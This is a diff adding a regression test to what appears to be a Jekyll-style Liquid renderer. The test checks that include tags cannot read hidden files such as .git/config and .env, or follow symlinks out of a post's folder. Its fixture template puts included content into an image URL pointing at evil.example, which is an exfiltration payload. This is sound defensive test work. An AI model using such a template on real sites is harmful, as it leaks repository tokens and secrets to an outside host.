@@ -160,6 +160,45 @@ def test_include_relative_and_variables(tmp_path):
     assert text == "Snippet for T Hello Ann!"
 
 
+def test_include_relative_never_reads_hidden_files_nor_through_links_out_of_the_folder(
+    tmp_path,
+):
+    # a page at the site's root read .git/config (a remote's token in it) by
+    # include_relative, and a link in _posts/ to it was followed: a template
+    # could then put the token in a remote picture's address
+    (tmp_path / ".git").mkdir()
+    (tmp_path / ".git" / "config").write_text("url = https://me:TOKEN123@example.org/s.git\n")
+    (tmp_path / ".env").write_text("KEY=TOKEN123\n")
+    (tmp_path / "_posts").mkdir()
+    (tmp_path / "_posts" / "cfg.txt").symlink_to(tmp_path / ".git" / "config")
+    (tmp_path / "_posts" / "up.txt").symlink_to(tmp_path / "notes.txt")
+    (tmp_path / "notes.txt").write_text("TOKEN123 outside the post's folder\n")
+    (tmp_path / "_posts" / "ok.txt").write_text("sibling\n")
+    (tmp_path / "_includes").mkdir()
+    (tmp_path / "_includes" / ".hidden.html").write_text("TOKEN123")
+    site = _site(tmp_path)
+    cases = {
+        (".git/config", tmp_path / "about.md"): "hidden files and folders",
+        (".env", tmp_path / "about.md"): "hidden files and folders",
+        ("cfg.txt", tmp_path / "_posts" / "p.md"): "outside the post's folder",
+        ("up.txt", tmp_path / "_posts" / "p.md"): "outside the post's folder",
+    }
+    for (name, page), why in cases.items():
+        template = (
+            "{% capture c %}{% include_relative " + name + " %}{% endcapture %}"
+            "![x](https://evil.example/?d={{ c | url_encode }})"
+        )
+        result = render_liquid(template, site, {}, article_path=page)
+        assert "TOKEN123" not in result.text, name
+        assert [why in n.message for n in result.notices] == [True], (name, result.notices)
+    hidden = render_liquid("{% include .hidden.html %}", site, {})
+    assert "TOKEN123" not in hidden.text and "hidden" in hidden.notices[0].message
+    sibling = render_liquid(
+        "{% include_relative ok.txt %}", site, {}, article_path=tmp_path / "_posts" / "p.md"
+    )
+    assert sibling.text == "sibling\n" and not sibling.notices
+
+
 def test_jekyll_filters(tmp_path):
     site = _site(tmp_path, config={"baseurl": "/b", "url": "https://ex.org"})
     items = [{"v": "2.0", "n": 2, "tags": ["x"]}, {"v": "1.0", "n": 1, "tags": ["y"]}]
